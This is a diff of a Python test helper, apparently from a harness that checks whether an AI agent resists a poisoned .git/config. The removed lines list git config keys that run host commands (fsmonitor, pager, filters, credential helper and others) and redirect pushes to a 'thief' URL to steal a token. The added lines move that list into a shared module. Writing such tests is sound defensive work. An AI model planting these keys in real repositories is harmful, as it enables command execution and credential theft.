@@ -17,6 +17,7 @@ from pathlib import Path
 import pytest
 from agent_fixtures import CALC_WITH_TESTS, FIX_SCRIPT
 
+from bench import security
 from bot.devstack import stack
 from bot.simulator.git import git as simgit
 
@@ -50,36 +51,10 @@ class Catcher:
 
 
 def planted_config(markers: Path, thief: str, sim_url: str) -> str:
-    """Every .git/config key the audit used to run a host command or steal the token."""
-    m = markers
-    return f"""
-[core]
-\tfsmonitor = "touch {m}/fsmonitor; false"
-\tsshCommand = "touch {m}/ssh"
-\tpager = "touch {m}/pager; cat"
-\thooksPath = /workspace/.githooks
-[filter "pwn"]
-\tclean = "touch {m}/filter; cat"
-\tsmudge = "touch {m}/filter; cat"
-\trequired = true
-[diff]
-\texternal = "touch {m}/diff-external"
-[diff "pwn"]
-\ttextconv = "touch {m}/textconv; cat"
-[commit]
-\tgpgsign = true
-[gpg]
-\tprogram = "touch {m}/gpg"
-[credential]
-\thelper = "!touch {m}/credential; echo"
-[remote "origin"]
-\turl = {thief}/steal.git
-\tpushurl = {thief}/steal.git
-[url "{thief}/"]
-\tinsteadOf = {sim_url}/
-[include]
-\tpath = /workspace/extra.cfg
-"""
+    """Every .git/config key the audit used to run a host command or steal the token (the
+    bench's list), and a URL rewrite from the simulator to the thief."""
+    return (security.PLANTED.format(m=markers, ws="/workspace", thief=f"{thief}/steal.git")
+            + f'[url "{thief}/"]\n\tinsteadOf = {sim_url}/\n')
 
 
 def plant_script(markers: Path, thief: str, sim_url: str) -> str:
